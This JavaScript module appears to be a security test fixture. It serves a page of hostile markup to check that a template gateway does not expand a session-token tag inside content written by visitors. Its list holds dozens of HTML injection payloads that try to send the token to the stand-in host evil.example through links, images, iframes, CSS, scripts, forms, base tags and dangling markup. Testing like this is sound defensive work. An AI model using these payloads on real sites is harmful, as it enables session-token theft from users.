// A page where somebody has written what visitors may write, and tries to have the token sent away to evil.example. Each
// part stands alone with `part=NAME`. A gateway that expands a single tag below the first paragraph has lost.

import { escape } from "./page.js";
import { badRequest } from "./parameters.js";

export function hostile(parameters) {
  const wanted = parameters.get("part");
  const parts = PARTS.filter(([name]) => wanted === null || name === wanted);
  if (parts.length === 0) return badRequest(`part is one of ${PARTS.map(([name]) => name).join(", ")}`);
  const main = parts.map(([name, markup]) => `<h2>${escape(name)}</h2>\n${markup}`).join("\n");
  return { title: "Hostile content", main: `${OWN}\n${main}`, protections: { formAction: "'self'" } };
}

// The page's own.
const OWN = `<p id="own">Token of this session: [[S86:true]]</p>
<form id="legit" action="/site/CRConsAPI" method="post"><button type="submit">Send</button></form>`;

// What follows on a page after what a visitor wrote: a tag of the page's own, and then the first quote.
const FOLLOWS = `
<p>[[S86:true]]</p>
<p class="note">The end.</p>`;

const PARTS = [
  // Addresses that lead away, in every spelling.
  ["link", `<a href="https://evil.example/?t=[[S86:true]]">a</a>`],
  ["link-single", `<a href='https://evil.example/?t=[[S86:true]]'>a</a>`],
  ["link-bare", `<a href=https://evil.example/?t=[[S86:true]]>a</a>`],
  ["link-case", `<A HREF="HTTPS://EVIL.EXAMPLE/?t=[[S86:true]]">a</A>`],
  ["link-no-scheme", `<a href="//evil.example/?t=[[S86:true]]">a</a>`],
  ["link-backslash", `<a href="/\\evil.example/?t=[[S86:true]]">a</a>`],
  ["link-space", `<a href=" \t\nhttps://evil.example/?t=[[S86:true]]">a</a>`],
  ["link-tab", `<a href="ht\ttps:/\n/evil.example/?t=[[S86:true]]">a</a>`],
  ["link-entity", `<a href="&#104;ttps&colon;&sol;&#47evil.example/?t=[[S86:true]]">a</a>`],
  ["link-user", `<a href="http://127.0.0.1:8787@evil.example/?t=[[S86:true]]">a</a>`],
  ["link-looks-alike", `<a href="http://127.0.0.1:8787.evil.example/?t=[[S86:true]]">a</a>`],
  ["link-here", `<a href="/files/a?next=https://evil.example/&amp;t=[[S86:true]]">a</a>`],
  ["link-xml", `<a href="https://evil.example/?t=<convio:session name='86'/>">a</a>`],
  ["link-rewrite", `<a href="https://evil.example/?t=[[S86:true:rewrite]]">a</a>`],
  ["link-field", `<a href="https://evil.example/?t=[[S86]]">a</a>`],
  ["link-twice", `<a title="x" href="https://evil.example/?t=[[S86:true]]" href="/site/Page">a</a>`],
  ["ping", `<a href="/" ping="https://evil.example/?t=[[S86:true]]">a</a>`],

  // What is fetched without a click.
  ["image", `<img alt="" src="https://evil.example/?t=[[S86:true]]">`],
  ["srcset", `<img alt="" srcset="/a.png 1x, https://evil.example/[[S86:true]] 2x">`],
  ["source", `<picture><source srcset="https://evil.example/[[S86:true]]"><img alt="" src="data:,"></picture>`],
  ["poster", `<video poster="https://evil.example/?t=[[S86:true]]"></video>`],
  ["media", `<audio src="https://evil.example/?t=[[S86:true]]"></audio><video><track src="https://evil.example/?t=[[S86:true]]" default></video>`],
  ["frame", `<iframe title="a" src="https://evil.example/?t=[[S86:true]]"></iframe>`],
  ["srcdoc", `<iframe title="a" srcdoc="&lt;img src=https://evil.example/?t=[[S86:true]]&gt;"></iframe>`],
  ["data-image", `<img alt="" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/?t=[[S86:true]]'/></svg>">`],
  ["data-frame", `<iframe title="a" src="data:text/html,<img src=https://evil.example/?t=[[S86:true]]>"></iframe>`],
  ["object", `<object data="https://evil.example/?t=[[S86:true]]"></object><embed src="https://evil.example/?t=[[S86:true]]">`],
  ["background", `<table background="https://evil.example/?t=[[S86:true]]"><tr><td>a</td></tr></table>`],
  ["svg", `<svg><image href="https://evil.example/?t=[[S86:true]]" xlink:href="https://evil.example/?t=[[S86:true]]"/></svg>`],
  ["stylesheet", `<link rel="stylesheet" href="https://evil.example/?t=[[S86:true]]">`],
  ["preload", `<link rel="preload" as="image" imagesrcset="https://evil.example/[[S86:true]] 1x" imagesizes="1px">`],
  ["refresh", `<meta http-equiv="refresh" content="5; url=https://evil.example/?t=[[S86:true]]">`],

  // Styles and scripts.
  ["style", `<p style="background: url(https://evil.example/?t=[[S86:true]])">a</p>`],
  ["style-element", `<style>p { background: url("https://evil.example/?t=[[S86:true]]") }</style>`],
  ["script", `<script>fetch("https://evil.example/?t=[[S86:true]]")</script>`],
  ["handler", `<p onclick="location = 'https://evil.example/?t=[[S86:true]]'">a</p>`],
  ["javascript", `<a href="javascript:location='https://evil.example/?t=[[S86:true]]'">a</a>`],
  ["comment", `<!--><img alt="" src="https://evil.example/?t=[[S86:true]]"><!-- [[S86:true]] -->`],

  // Forms.
  ["form-address", `<form action="https://evil.example/?t=[[S86:true]]"><button>a</button></form>`],
  ["form", `<form action="https://evil.example/" method="post">[[S86]]<button>a</button></form>`],
  ["form-value", `<form action="https://evil.example/" method="post"><input name="t" aria-label="t" value="[[S86:true]]"><button>a</button></form>`],
  ["form-text", `<form action="https://evil.example/" method="post"><textarea name="t" aria-label="t">[[S86:true]]</textarea><button>a</button></form>`],
  ["form-option", `<form action="https://evil.example/"><select name="t" aria-label="t"><option>[[S86:true]]</select><button>a</button></form>`],
  ["form-elsewhere", `<form id="away" action="https://evil.example/" method="post"></form><input form="away" name="t" aria-label="t" value="[[S86:true]]"><button form="away">a</button>`],
  ["form-button", `<form action="/site/CRConsAPI" method="post">[[S86]]<button formaction="https://evil.example/">a</button></form>`],
  ["form-button-elsewhere", `<button form="legit" formaction="https://evil.example/" name="t" value="[[S86:true]]">a</button>`],
  ["form-in-form", `<form action="https://evil.example/" method="post"><form action="/site/CRConsAPI" method="post">[[S86]]<button>a</button></form>`],

  // The tags that make addresses.
  ["s1112", `<a href="[[S1112:https://evil.example/landing]]">a</a> [[S1112:https://evil.example/landing]]`],
  ["s1112-no-scheme", `<a href="[[S1112://evil.example/landing]]">a</a>`],
  ["s1112-user", `<a href="[[S1112:http://127.0.0.1:8788@evil.example/landing]]">a</a>`],
  ["s1112-looks-alike", `<a href="[[S1112:http://127.0.0.1:8788.evil.example/landing]]">a</a>`],
  ["s1112-backslash", `<a href="[[S1112:http://evil.example\\@127.0.0.1:8788/landing]]">a</a>`],
  ["s1112-entity", `<a href="[[S1112:http://127.0.0.1:8788&commat;evil.example/landing]]">a</a>`],
  ["s1112-within", `<a href="https://evil.example/?u=[[S1112:http://127.0.0.1:8788/landing]]">a</a>`],
  ["s1112-token", `<a href="[[S1112:http://127.0.0.1:8788/landing?t=[[S86:true]]]]">a</a>`],
  ["s1112-javascript", `<a href="[[S1112:javascript:alert(1)//127.0.0.1:8788/]]">a</a>`],
  ["s1112-markup", `<p>[[S1112:http://127.0.0.1:8788/"><img src="https://evil.example/?t=[[S86:true]]">]]</p>`],
  ["t2", `<form action="[[T2:https://evil.example/site/CRConsAPI]]" method="post"><button>a</button></form>`],
  ["t2-user", `<form action="[[T2:http://127.0.0.1:8787@evil.example/]]" method="post"><button>a</button></form>`],

  // What changes the meaning of everything after it.
  ["base", `<base href="https://evil.example/"><a href="a?t=[[S86:true]]">a</a><form action="site/CRConsAPI" method="post">[[S86]]<button>a</button></form>`],
  ["open-comment-in-attribute", `<p title="<!--">[[S1112:https://evil.example/]]</p><p title="-->">a</p>`],
  ["open-form", `<form action="https://evil.example/" method="post"><button>a</button>${FOLLOWS}`],
  ["open-textarea", `</form><form action="https://evil.example/" method="post"><button>a</button><textarea name="t" aria-label="t">${FOLLOWS}</textarea></form>`],
  ["open-image-single", `<img alt="" src='https://evil.example/?${FOLLOWS}'>`],
  ["open-image", `<img alt="" src="https://evil.example/?${FOLLOWS}`],
];
